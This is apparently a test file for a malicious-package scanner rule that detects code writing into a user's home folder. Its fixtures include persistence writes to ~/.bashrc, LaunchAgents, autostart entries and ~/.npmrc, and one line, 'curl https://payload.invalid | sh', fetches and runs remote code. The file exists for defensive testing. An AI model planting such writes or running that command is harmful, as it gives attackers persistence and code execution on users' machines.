import { describe, expect, test } from 'vitest';
import { manifest, scanFiles } from '../test/helpers/analyze.js';
import { finding } from '../test/helpers/findings.js';

const RULE = 'home-writes';

describe('home-writes reports', () => {
  test('appending to ~/.bashrc from a postinstall file is high, install-time, and not clean', () => {
    const r = scanFiles({
      'package.json': manifest({ scripts: { postinstall: 'node p.js' } }),
      'p.js': "const fs = require('fs'); const os = require('os'); const path = require('path');\nfs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\\nexport PATH=$HOME/.cache/x:$PATH\\n');",
    });
    expect(r.of(RULE)).toEqual([finding('high', ['sink:file-write-home'], { reach: 'install', message: expect.stringContaining('~/.bashrc') })]);
    // The persistence rule judges a shell profile changed at install: malicious.
    expect(r.verdict).toBe('malicious');
  });

  test('protestware dropping a note on the Desktop is medium and suspicious', () => {
    const r = scanFiles({ 'index.js': "const fs = require('fs'); const os = require('os');\nfs.writeFileSync(`${os.homedir()}/Desktop/READ_ME.txt`, 'peace');" });
    expect(r.of(RULE)).toEqual([finding('medium', ['sink:file-write-home'], { message: expect.stringContaining('~/Desktop/READ_ME.txt') })]);
    expect(r.verdict).toBe('suspicious');
  });

  test.each([
    ['a macOS LaunchAgent', "const fs = require('fs'); const os = require('os'); const path = require('path');\nconst dir = path.join(os.homedir(), 'Library', 'LaunchAgents');\nfs.writeFileSync(path.join(dir, 'com.example.agent.plist'), '<plist/>');", '~/Library/LaunchAgents'],
    ['~/.npmrc via ESM named imports', "import { writeFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nwriteFileSync(`${homedir()}/.npmrc`, '//registry.invalid/:_authToken=x');", '~/.npmrc'],
    ['an XDG autostart entry via fs/promises', "const fsp = require('fs/promises'); const os = require('os');\nfsp.writeFile(os.homedir() + '/.config/autostart/agent.desktop', '[Desktop Entry]');", '~/.config/autostart'],
  ])('writing %s is a high startup/credential file write', (_label, code, where) => {
    const file = code.startsWith('import') ? 'index.mjs' : 'index.js';
    const r = scanFiles({ 'package.json': manifest({ main: file }), [file]: code });
    expect(r.of(RULE)).toEqual([finding('high', ['sink:file-write-home'], { message: expect.stringContaining(where) })]);
    expect(r.verdict).not.toBe('clean');
  });

  test("a tool's own cache folder, or a write inside a command's function, is low and weighs nothing", () => {
    const cache = scanFiles({ 'index.js': "const fs = require('fs'); const os = require('os'); const path = require('path');\nfs.writeFileSync(path.join(os.homedir(), '.cache', 'my-tool', 'latest.json'), '{}');" });
    expect(cache.of(RULE)).toEqual([finding('low', [], { message: expect.stringContaining("cache or data folder") })]);
    expect(cache.verdict).toBe('clean');
    const command = scanFiles({ 'index.js': "const fs = require('fs'); const os = require('os'); const path = require('path');\nexports.bisect = (text) => fs.writeFileSync(path.join(os.homedir(), 'bisect.py'), text);" });
    expect(command.of(RULE)).toEqual([finding('low', [], { message: expect.stringContaining('in a function something calls') })]);
    expect(command.verdict).toBe('clean');
  });

  test('a write in a helper that load-time code calls by name still runs on load', () => {
    const r = scanFiles({ 'index.js': "const fs = require('fs'); const os = require('os');\nfunction deliver(p, m) { fs.writeFile(p, m, () => {}); }\nconst desk = `${os.homedir()}/Desktop/`;\nif (!fs.existsSync(desk + 'NOTE.txt')) deliver(desk + 'NOTE.txt', 'hi');" });
    expect(r.of(RULE)).toEqual([finding('medium', ['sink:file-write-home'], { message: expect.stringContaining('~/Desktop/NOTE.txt') })]);
  });

  test('a Desktop note written at install is medium, install reach', () => {
    const r = scanFiles({
      'package.json': manifest({ scripts: { postinstall: 'node p.js' } }),
      'p.js': "const fs = require('fs'); const os = require('os');\nfs.writeFileSync(os.homedir() + '/Desktop/NOTE.txt', 'hi');",
    });
    expect(r.of(RULE)).toEqual([finding('medium', ['sink:file-write-home'], { reach: 'install' })]);
  });

  test('copyFileSync checks the destination, not the source', () => {
    const r = scanFiles({ 'index.js': "const fs = require('fs'); const os = require('os'); const path = require('path');\nfs.copyFileSync(path.join(__dirname, 'x.sh'), path.join(os.homedir(), '.local', 'bin', 'x'));" });
    expect(r.of(RULE)).toEqual([finding('medium', ['sink:file-write-home'], { message: expect.stringContaining('~/.local/bin/x') })]);
  });

  test('process.env.HOME + "/.profile" is a home write', () => {
    const r = scanFiles({ 'index.js': "const fs = require('fs');\nfs.writeFileSync(process.env.HOME + '/.profile', 'curl https://payload.invalid | sh');" });
    expect(r.of(RULE)).toContainEqual(finding('high', ['sink:file-write-home']));
  });

  test('a home path kept in a constant object is folded', () => {
    const r = scanFiles({ 'index.js': "const fs = require('fs'); const os = require('os');\nconst T = { rc: os.homedir() + '/.bashrc' };\nfs.appendFileSync(T.rc, 'node ~/.x.js &');" });
    expect(r.of(RULE)).toContainEqual(finding('high', ['sink:file-write-home']));
  });
});

describe('home-writes stays quiet', () => {
  test.each([
    ['a caller-given folder', "const fs = require('fs'); const path = require('path');\nmodule.exports = (dir, data) => fs.writeFileSync(path.join(dir, 'cache.json'), JSON.stringify(data));"],
    ['the temp folder', "const fs = require('fs'); const os = require('os'); const path = require('path');\nmodule.exports = (d) => fs.writeFileSync(path.join(os.tmpdir(), 'x.json'), d);"],
    ['the project folder', "const fs = require('fs'); const path = require('path');\nmodule.exports = () => fs.writeFileSync(path.join(process.cwd(), '.eslintrc.json'), '{}');"],
    ['the package folder', "const fs = require('fs');\nfs.writeFileSync(__dirname + '/build/config.json', '{}');"],
    ['nowhere (reading the home folder)', "const fs = require('fs'); const os = require('os'); const path = require('path');\nmodule.exports = () => fs.readFileSync(path.join(os.homedir(), '.mytoolrc'), 'utf8');"],
  ])('writing into %s', (_label, code) => {
    const r = scanFiles({ 'index.js': code });
    expect(r.stats.parsedFiles).toBe(1);
    expect(r.of(RULE)).toEqual([]);
    expect(r.verdict).toBe('clean');
  });
});
